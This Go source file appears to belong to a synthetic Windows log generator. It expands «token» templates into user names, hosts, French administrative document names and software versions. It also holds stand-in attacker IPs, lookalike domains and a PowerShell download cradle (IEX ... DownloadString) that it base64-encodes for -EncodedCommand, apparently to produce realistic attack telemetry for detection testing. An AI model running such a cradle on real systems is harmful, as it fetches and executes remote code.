package winmix

import (
	"encoding/base64"
	"strconv"
	"strings"
	"unicode/utf16"
)

// Templates: the vocabularies are written as strings with «tokens» that are
// expanded per event. «» rather than {} or $() because command lines,
// registry paths and PowerShell are full of braces, dollars and percents.
//
//	«u» «sid»           the interactive user's name and SID on this host
//	«host» «fqdn» «ip» «dom» «dns» «org»  this host and its domain
//	«dc» «fs» «web»     a server of the domain (NetBIOS name); «dcip» a DC's address
//	«tenant»            the domain's Microsoft 365 tenant
//	«img» «pimg» «ppid» the process's image, its parent's image and PID
//	«G» «g»             a random GUID, upper / lower case
//	«n:A-B»             a random integer in [A, B]
//	«x:N» «X:N» «a:N» «d:N»  N random hex (lower/upper), alphanumeric, decimal chars
//	«|a|b|c»            one of the alternatives (which may hold tokens)
//	«doc» «docx» «xlsx» «pdf» «share» «site»  document names, shares, web sites
//	«chrome» «edge» «defver» «office» «teams» «onedrive»  installed versions
//	«winver»            the host's Windows build (10.0.26100.3476)
//	«lsass» «pool» «date» «ym» «yymmdd»
//	«badip» «baddom» «payload» «b64ps»  malicious infrastructure
type ctx struct {
	g    *Generator
	h    *host
	a    *account // the account acting; «u» falls back to the host's user
	img  string
	pimg string
	ppid int
}

// Installed software versions, fixed for the estate like a managed fleet.
var versions = map[string]string{
	"chrome":   "133.0.6943.142",
	"edge":     "133.0.3065.92",
	"defver":   "4.18.25010.11-0",
	"office":   "16.0.18526.20168",
	"teams":    "25031.805.3440.5290",
	"onedrive": "25.020.0202.0002",
	"acrobat":  "25.1.20432.0",
}

var (
	docNames = []string{"Compte-rendu_CM_«date».docx", "Note_DGS_«a:6».docx", "PV_reunion_chantier_«n:1-52».docx",
		"Rapport d'activité 2025.docx", "Courrier_administre_«n:1000-9999».docx", "Convention_partenariat_«n:10-99».docx",
		"Arrete_voirie_2026-«n:100-999».docx", "Deliberation_2026_«n:10-250».docx"}
	xlsNames = []string{"Budget_primitif_2026.xlsx", "Planning_equipes_«|mars|avril|semaine_«n:1-52»».xlsx",
		"Liste_inscriptions_cantine.xlsx", "Suivi_subventions_2026.xlsx", "Tableau_effectifs_«ym».xlsx",
		"Export_GF_«n:100000-999999».xlsx", "Inventaire_materiel_DSI.xlsx"}
	pdfNames = []string{"Facture_F«n:2026000-2026999».pdf", "Bon de commande «n:1000-9999».pdf",
		"Formulaire_demande_subvention.pdf", "Deliberation_2026-«n:10-250».pdf", "Devis_«a:8».pdf",
		"Avis_de_paiement_«n:100000-999999».pdf", "Journal_officiel_«date».pdf", "scan_«date»_«d:6».pdf"}
	docLists = [][]string{docNames, xlsNames, pdfNames}
	shares   = []string{"Partages", "Services", "Commun", "Scans", "Finances", "RH$", "Urbanisme", "Profils$", "Applis"}
	sites    = []string{"www.service-public.fr", "www.impots.gouv.fr", "www.legifrance.gouv.fr", "www.collectivites-locales.gouv.fr",
		"chorus-pro.gouv.fr", "www.marches-publics.gouv.fr", "www.ameli.fr", "www.insee.fr", "www.lemonde.fr",
		"www.ouest-france.fr", "www.google.com", "www.youtube.com", "fr.wikipedia.org", "www.laposte.fr", "www.caf.fr"}
	badIPs   = []string{"203.0.113.45", "198.51.100.23", "203.0.113.201", "198.51.100.77"}
	badDoms  = []string{"update-office365.cloud-cdn.top", "docs-viewer.azureedge-cdn.xyz", "cdn.pastebin-storage.top"}
	payloads = []string{"update", "svchost32", "invoice", "msupdate", "OneDriveUpdater", "kb5034441"}
)

// cradle is the kind of PowerShell download cradle «b64ps» encodes.
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://%s/a')"

func (c *ctx) expand(t string) string {
	if !strings.Contains(t, "«") {
		return t
	}
	b := c.appendTmpl(c.g.scr[:0], c.g.compile(t))
	c.g.scr = b
	return string(b)
}

// tmpl is a parsed template: literal text and tokens in turn. Templates
// are parsed once per Generator: scanning for «» on every event cost more
// than writing the event.
type tmpl []part

type part struct {
	lit  string
	tok  string // token name; "" for a literal
	arg  string
	alts []tmpl // for «|a|b»
}

func (g *Generator) compile(t string) tmpl {
	if p, ok := g.tmpls[t]; ok {
		return p
	}
	p := parse(t)
	g.tmpls[t] = p
	return p
}

func parse(t string) tmpl {
	var p tmpl
	for {
		i := strings.Index(t, "«")
		if i < 0 {
			if t != "" {
				p = append(p, part{lit: t})
			}
			return p
		}
		if i > 0 {
			p = append(p, part{lit: t[:i]})
		}
		t = t[i+len("«"):]
		end := closing(t)
		tok := t[:end]
		t = t[end+len("»"):]
		if tok[0] == '|' {
			var alts []tmpl
			for _, a := range splitAlts(tok) {
				alts = append(alts, parse(a))
			}
			p = append(p, part{tok: "|", alts: alts})
			continue
		}
		name, arg, _ := strings.Cut(tok, ":")
		p = append(p, part{tok: name, arg: arg})
	}
}

func (c *ctx) appendTmpl(b []byte, t tmpl) []byte {
	for i := range t {
		p := &t[i]
		switch p.tok {
		case "":
			b = append(b, p.lit...)
		case "|":
			b = c.appendTmpl(b, p.alts[c.g.r.IntN(len(p.alts))])
		default:
			b = c.token(b, p.tok, p.arg)
		}
	}
	return b
}

// appendExpand expands a template given as text (vocabulary lists).
func (c *ctx) appendExpand(b []byte, t string) []byte {
	return c.appendTmpl(b, c.g.compile(t))
}

func (c *ctx) user() *account {
	if c.a != nil && c.a.user != nil {
		return c.a
	}
	return c.h.interactive
}

func (c *ctx) token(b []byte, name, arg string) []byte {
	g, h := c.g, c.h
	switch name {
	case "u":
		return append(b, c.user().user.name...)
	case "sid":
		return append(b, c.user().sid...)
	case "host":
		return append(b, h.name...)
	case "fqdn":
		return append(b, h.fqdn...)
	case "ip":
		return append(b, h.ip...)
	case "dom":
		return append(b, h.org.netbios...)
	case "dns":
		return append(b, h.org.dns...)
	case "org":
		return append(b, h.org.name...)
	case "tenant":
		return append(b, h.org.tenant...)
	case "dcip":
		return append(b, g.peer(h, rDC).ip...)
	case "dc":
		return append(b, g.peer(h, rDC).name...)
	case "fs":
		return append(b, g.peer(h, rFS).name...)
	case "web":
		return append(b, g.peer(h, rWeb).name...)
	case "img":
		return append(b, c.img...)
	case "pimg":
		return append(b, c.pimg...)
	case "ppid":
		return strconv.AppendInt(b, int64(c.ppid), 10)
	case "G":
		return g.guid(b, hexUpper)
	case "g":
		return g.guid(b, hexLower)
	case "n":
		lo, hi, _ := strings.Cut(arg, "-")
		l, _ := strconv.Atoi(lo)
		u, _ := strconv.Atoi(hi)
		if u < l {
			panic("winmix: bad range «n:" + arg + "»")
		}
		return strconv.AppendInt(b, int64(l+g.r.IntN(u-l+1)), 10)
	case "x", "X", "a", "d":
		n, _ := strconv.Atoi(arg)
		set := digits
		switch name {
		case "x":
			set = hexLower
		case "X":
			set = hexUpper
		case "a":
			set = alnum
		}
		return g.randChars(b, n, set)
	case "doc":
		return c.appendExpand(b, oneOf(g.r, oneOf(g.r, docLists)))
	case "docx":
		return c.appendExpand(b, oneOf(g.r, docNames))
	case "xlsx":
		return c.appendExpand(b, oneOf(g.r, xlsNames))
	case "pdf":
		return c.appendExpand(b, oneOf(g.r, pdfNames))
	case "share":
		return append(b, oneOf(g.r, shares)...)
	case "site":
		return append(b, oneOf(g.r, sites)...)
	case "winver":
		return append(b, h.build...)
	case "lsass":
		return strconv.AppendInt(b, int64(h.lsassPID), 10)
	case "pool":
		if h.pool != nil {
			return append(b, h.pool.name...)
		}
		return append(b, "DefaultAppPool"...)
	case "date":
		return g.now.AppendFormat(b, "2006-01-02")
	case "ym":
		return g.now.AppendFormat(b, "2006-01")
	case "yymmdd":
		return g.now.AppendFormat(b, "060102")
	case "badip":
		return append(b, oneOf(g.r, badIPs)...)
	case "baddom":
		return append(b, oneOf(g.r, badDoms)...)
	case "payload":
		return append(b, oneOf(g.r, payloads)...)
	case "b64ps":
		return append(b, encodedCommand(strings.Replace(cradle, "%s", oneOf(g.r, badIPs), 1))...)
	}
	if v, ok := versions[name]; ok {
		return append(b, v...)
	}
	panic("winmix: unknown template token «" + name + "»")
}

// encodedCommand is what powershell -EncodedCommand takes: base64 of UTF-16LE.
func encodedCommand(s string) string {
	u := utf16.Encode([]rune(s))
	raw := make([]byte, 2*len(u))
	for i, c := range u {
		raw[2*i], raw[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// closing returns the index of the » that closes a token, skipping nested
// tokens in alternatives.
func closing(t string) int {
	depth := 0
	for i := 0; i < len(t); {
		switch {
		case strings.HasPrefix(t[i:], "«"):
			depth++
			i += len("«")
		case strings.HasPrefix(t[i:], "»"):
			if depth == 0 {
				return i
			}
			depth--
			i += len("»")
		default:
			i++
		}
	}
	panic("winmix: unclosed « in template")
}

// splitAlts splits "|a|b|c" at the |s that are outside nested tokens. A
// literal | cannot appear in an alternative: list such values separately.
func splitAlts(t string) []string {
	var alts []string
	depth, start := 0, 1
	for i := 1; i < len(t); {
		switch {
		case strings.HasPrefix(t[i:], "«"):
			depth++
			i += len("«")
		case strings.HasPrefix(t[i:], "»"):
			depth--
			i += len("»")
		case t[i] == '|' && depth == 0:
			alts = append(alts, t[start:i])
			i++
			start = i
		default:
			i++
		}
	}
	return append(alts, t[start:])
}
